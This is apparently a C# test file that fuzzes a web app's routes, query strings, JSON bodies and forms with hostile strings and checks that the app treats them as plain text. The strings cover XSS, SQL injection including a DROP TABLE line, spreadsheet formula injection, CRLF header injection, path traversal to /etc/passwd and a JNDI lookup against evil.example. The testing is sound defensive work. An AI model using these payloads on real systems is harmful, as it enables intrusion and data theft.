using System.Net;
using System.Reflection;
using System.Text.Json;
using System.Text.Json.Nodes;
using AngleSharp;
using AngleSharp.Dom;
using AngleSharp.Html.Dom;
using CountryProvider.Host;
using CountryProvider.Host.Distribution;
using CountryProvider.Testing;
using CountryProvider.Topology.Tests.Deployments;
using CountryProvider.Topology.Tests.Http;
using CountryProvider.Topology.Tests.Pages;
using Microsoft.AspNetCore.Http.Metadata;
using Microsoft.AspNetCore.Routing;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;

namespace CountryProvider.Topology.Tests.Security;

/// <summary>
/// Texts with a meaning for a browser, a database, a spreadsheet, a log or a terminal. The test sends them in every parameter of every
/// route, and in every field of every body and form. It finds these in the running program.
/// </summary>
public sealed class InjectionTests
{
    /// <summary>
    /// If this environment variable is 1, every text is tried everywhere. Without it, names get all texts, and all other fields get some.
    /// </summary>
    private const string StepVariable = "COUNTRY_PROVIDER_INJECTION_STEP";

    private const string Marker = "injected";

    private static int _codes;

    private static readonly int _step = int.TryParse(Environment.GetEnvironmentVariable(StepVariable), out var step) ? step : 7;

    private static readonly string[] _hostile =
    [
        $"<script>{Marker}()</script>",
        $"\"><img src=x onerror={Marker}()>",
        $"' onmouseover='{Marker}()",
        $"</title><svg onload={Marker}()>",
        $"javascript:{Marker}()",
        $"{{{{{Marker}}}}}@({Marker})",
        "'; DROP TABLE entries; --",
        "' OR '1'='1",
        "\" OR 1=1 --",
        "%' ESCAPE '!' --",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1)",
        $"x\r\nSet-Cookie: {Marker}=1",
        $"x\nforged: {Marker}",
        "x\u2028y",
        "\u202Egnp.exe",
        "\u2066x",
        "\u0000",
        "\u001b[31mred",
        "%0d%0aLocation:%20//evil.example",
        "../../../etc/passwd",
        "${jndi:ldap://evil.example/x}",
        "{0}{1}",
        "\uFFFE",
    ];

    [Fact]
    public async Task One_process_takes_them_as_text_or_refuses_them()
    {
        using var log = new LogRecorder();
        await using var host = await TestHost.StartAsync(
            Modules.All,
            services => services.AddLogging(logging => logging.AddProvider(log)),
            "Seed:Data=demo",
            "Logging:LogLevel:Default=None",
            "Logging:LogLevel:CountryProvider=Trace"
        );
        await AttackAsync(host, host.Client, _hostile);
        log.Lines.ShouldAllBe(line => !line.Contains('\n') && !line.Contains('\u001b'));
    }

    [Fact]
    public async Task Several_processes_behind_a_front_do_too()
    {
        await using var split = await Split.StartAsync(Partition.Each(Modules.All), ["Seed:Data=demo", "Logging:LogLevel:Default=None"]);
        await using var routes = await TestHost.StartAsync("Seed:Data=demo");
        await AttackAsync(routes, split.Client, [.. _hostile.Where((_, index) => index % 3 == 0)]);
    }

    [Fact]
    public async Task What_goes_wrong_is_logged_in_one_line()
    {
        using var log = new LogRecorder();
        await using var host = await TestHost.StartAsync(
            [.. Modules.All, new Throwing()],
            services => services.AddLogging(logging => logging.AddProvider(log)),
            "Logging:LogLevel:Default=Error"
        );

        var failed = 0;
        foreach (var text in _hostile)
        {
            using var answer = await host.Client.SendRawAsync("GET", "/throw/" + Uri.EscapeDataString(text));
            failed += answer.StatusCode is HttpStatusCode.InternalServerError ? 1 : 0;
        }

        failed.ShouldBeGreaterThan(20);
        log.Lines.Count.ShouldBe(failed);
        log.Lines.ShouldAllBe(line => !line.Any(char.IsControl));
    }

    [Fact]
    public async Task The_page_for_signing_in_shows_them_as_text_and_carries_them_along_as_they_are()
    {
        await using var host = await TestHost.StartAsync(Keys.Setting, "Logging:LogLevel:Default=None");
        foreach (var text in _hostile.Where(text => text != "\0")) // A form with that character cannot be read.
        {
            var encoded = Uri.EscapeDataString(text);
            (string Path, HttpContent? Body, int Status)[] requests =
            [
                ($"/sign-in?to={encoded}", null, 200),
                ($"/sign-in?to={encoded}&again=true", Endpoints.Form(("api-key", text), (text, "value"), ("name", text)), 401),
                ("/countries", Endpoints.Form(("code", "ABC"), (text, "value"), ("name", text)), 401),
            ];
            foreach (var (path, body, status) in requests)
            {
                using var answer = await host.Client.SendRawAsync(
                    body is null ? "GET" : "POST",
                    path,
                    body,
                    ("Sec-Fetch-Site", "same-origin")
                );
                var content = await answer.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
                var what = $"{path} with {JsonSerializer.Serialize(text)}: {(int)answer.StatusCode} {content}";
                ((int)answer.StatusCode).ShouldBe(status, what);
                answer.Headers.Contains("Set-Cookie").ShouldBeFalse(what);
                await ShouldBeHarmlessAsync(answer, content, what);
                if (body is not null && !text.Any(char.IsControl))
                {
                    var page = await BrowsingContext
                        .New(Configuration.Default)
                        .OpenAsync(response => response.Content(content), TestContext.Current.CancellationToken);
                    var carried = page.QuerySelectorAll<IHtmlInputElement>("main input[type=hidden]")
                        .Select(input => (input.Name, input.Value))
                        .ToList();
                    carried.ShouldContain((text, "value"), what);
                    carried.ShouldContain(("name", text), what);
                }
            }
        }
    }

    // The test has its own hosts and so all codes: the shared codes of the scenarios are too few.
    private static string NextCode()
    {
        var number = (uint)Interlocked.Increment(ref _codes);
        return new([(char)('A' + (number / 676 % 26)), (char)('A' + (number / 26 % 26)), (char)('A' + (number % 26))]);
    }

    private static async Task AttackAsync(TestHost routes, HttpClient client, string[] hostile)
    {
        var (attacks, accepted) = (0, new List<string>());
        var forms = await FieldsOfFormsAsync(client);
        foreach (var endpoint in Endpoints.Of(routes))
        {
            foreach (var method in endpoint.Methods())
            {
                foreach (
                    var (path, body, text, isName) in Attacks(endpoint, forms, hostile)
                        .Where((attack, index) => attack.IsName || index % _step == 0)
                )
                {
                    using var answer = await client.SendRawAsync(method, path, body?.Invoke(), ("Sec-Fetch-Site", "same-origin"));
                    var content = await answer.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
                    var what = $"{method} {path} with {JsonSerializer.Serialize(text)}: {(int)answer.StatusCode} {content}";
                    attacks++;

                    ((int)answer.StatusCode).ShouldBeLessThan(500, what);
                    answer
                        .Headers.Concat(answer.Content.Headers)
                        .Where(header => header.Key == "Set-Cookie" || header.Value.Any(value => value.Any(char.IsControl)))
                        .ShouldBeEmpty(what);
                    (answer.Headers.Location?.OriginalString ?? "/").ShouldStartWith("/", Case.Sensitive, what);
                    (answer.Headers.Location?.OriginalString ?? "/").ShouldNotStartWith("//", Case.Sensitive, what);
                    await ShouldBeHarmlessAsync(answer, content, what);
                    if (
                        isName
                        && answer.StatusCode
                            is HttpStatusCode.OK
                                or HttpStatusCode.Created
                                or HttpStatusCode.NoContent
                                or HttpStatusCode.SeeOther
                    )
                    {
                        accepted.Add(text);
                    }
                }
            }
        }

        attacks.ShouldBeGreaterThan(20 * hostile.Length);
        accepted.ShouldNotBeEmpty();
        foreach (
            var text in hostile.Where(text =>
                text.Any(char.IsControl) || text.Any(character => character is '\u2028' or '\u202E' or '\u2066' or '\uFFFE')
            )
        )
        {
            accepted.ShouldNotContain(text);
        }

        // The stored text equals the sent text everywhere: nothing was cut, decoded or executed.
        foreach (var entries in Entries.All)
        {
            var names = (await client.Get($"{entries.V2}?retired=true")).ShouldBe(200).All("name").ToList();
            var v1 = (await client.Get(entries.V1)).ShouldBe(200).All("name").ToList();
            foreach (
                var text in accepted
                    .Distinct()
                    .Where(text => text.Contains(Marker) || text.Contains("DROP") || text[0] is '=' or '+' or '@')
            )
            {
                names.ShouldContain(text);
                v1.ShouldContain(text);
            }

            foreach (var text in accepted.Distinct())
            {
                (await client.Get($"{entries.V2}?retired=true&search={Uri.EscapeDataString(text)}"))
                    .ShouldBe(200)
                    .All("name")
                    .Count()
                    .ShouldBeLessThan(names.Count);
            }

            for (var page = 1; page < 20; page++)
            {
                var answer = await client.Get($"{entries.Page}?retired=true&page={page}");
                await ShouldBeHarmlessAsync((await answer.ShouldBePage(client, 200)), entries.Page);
            }
        }

        await ShouldBeHarmlessAsync(await client.Open("/"), "/");
    }

    // Each parameter and each field in turn, with right values in all the others.
    private static IEnumerable<(string Path, Func<HttpContent>? Body, string Text, bool IsName)> Attacks(
        RouteEndpoint endpoint,
        IReadOnlyList<string> formFields,
        string[] hostile
    )
    {
        var code = endpoint.TakesBody() ? null : "GER";
        foreach (var text in hostile)
        {
            var path = endpoint.Path(_ => code ?? NextCode());
            foreach (var parameter in endpoint.RoutePattern.Parameters)
            {
                yield return (endpoint.Path(name => name == parameter.Name ? text : code ?? NextCode()), null, text, false);
            }

            foreach (var name in endpoint.QueryParameters().Append("unknown"))
            {
                yield return ($"{path}?{name}={Uri.EscapeDataString(text)}&done=added&page=1", null, text, false);
            }

            if (endpoint.Metadata.GetMetadata<IAcceptsMetadata>()?.RequestType is { } type)
            {
                foreach (var field in Fields(type))
                {
                    var json = Body(type, "", field, text).ToJsonString();
                    yield return (path, () => Endpoints.Json(json), text, field.Split('.')[^1] == "Name");
                }
            }
            else if (endpoint.TakesBody() && !endpoint.IsApi())
            {
                foreach (var field in formFields)
                {
                    var values = formFields
                        .Select(name =>
                            (
                                name,
                                name == field ? text
                                : name is "name" ? "Anything"
                                : name is "version" ? "1"
                                : NextCode()
                            )
                        )
                        .ToList();
                    yield return (path, () => Endpoints.Form(values), text, false);
                }
            }
        }
    }

    private static IEnumerable<string> Fields(Type type, string prefix = "") =>
        type.GetProperties()
            .Where(property => property.Name != "EqualityContract")
            .SelectMany(property =>
                property.PropertyType == typeof(string) ? [$"{prefix}{property.Name}"]
                : property.PropertyType.IsClass ? Fields(property.PropertyType, $"{prefix}{property.Name}.")
                : []
            );

    private static JsonObject Body(Type type, string prefix, string attacked, string text)
    {
        var json = new JsonObject();
        foreach (var property in type.GetProperties(BindingFlags.Public | BindingFlags.Instance))
        {
            json[JsonNamingPolicy.CamelCase.ConvertName(property.Name)] =
                property.PropertyType == typeof(string)
                    ? prefix + property.Name == attacked
                        ? text
                        : property.Name == "Name"
                            ? "Anything"
                            : NextCode()
                    : property.PropertyType.IsClass
                        ? Body(property.PropertyType, $"{prefix}{property.Name}.", attacked, text)
                        : null;
        }

        return json;
    }

    private static async Task<IReadOnlyList<string>> FieldsOfFormsAsync(HttpClient client)
    {
        var fields = new HashSet<string>();
        foreach (var path in Modules.All.Select(module => "/" + module.Navigation.Path).Concat(["/countries/GER", "/links/GER"]))
        {
            fields.UnionWith(
                (await client.Open(path)).QuerySelectorAll("form[method=post] [name]").Select(element => element.GetAttribute("name")!)
            );
        }

        fields.IsSupersetOf(["code", "name", "names", "currency-0", "language-0"]).ShouldBeTrue();
        return [.. fields];
    }

    private static async Task ShouldBeHarmlessAsync(HttpResponseMessage answer, string content, string what)
    {
        switch (answer.Content.Headers.ContentType?.MediaType)
        {
            case "text/html":
                await ShouldBeHarmlessAsync(
                    (IHtmlDocument)await BrowsingContext.New(Configuration.Default).OpenAsync(response => response.Content(content)),
                    what
                );
                break;
            case "application/json" or "application/problem+json":
                content.ShouldNotContain("<script", Case.Insensitive, what);
                using (JsonDocument.Parse(content)) { }

                break;
            case "text/plain":
                answer.Headers.GetValues("X-Content-Type-Options").ShouldBe(["nosniff"]);
                content.ShouldNotContain('\u001b', what);
                break;
            default:
                break;
        }
    }

    private static Task ShouldBeHarmlessAsync(IHtmlDocument page, string what)
    {
        foreach (var element in page.All)
        {
            if (element is IHtmlScriptElement script)
            {
                (script.Source ?? "").ShouldStartWith("assets/", Case.Sensitive, what);
                script.Text.ShouldBeEmpty(what);
            }

            element.LocalName.ShouldNotBe("img", what);
            foreach (var attribute in element.Attributes)
            {
                attribute.Name.ShouldNotStartWith("on", Case.Insensitive, what);
                attribute.Name.ShouldNotBe("style", what);
                if (attribute.Name is "href" or "src" or "action")
                {
                    attribute.Value.ShouldNotStartWith("javascript:", Case.Insensitive, what);
                    attribute.Value.ShouldNotStartWith("//", Case.Insensitive, what);
                }
            }
        }

        page.QuerySelectorAll("main h1, title").Length.ShouldBeGreaterThanOrEqualTo(2, what);
        return Task.CompletedTask;
    }
}
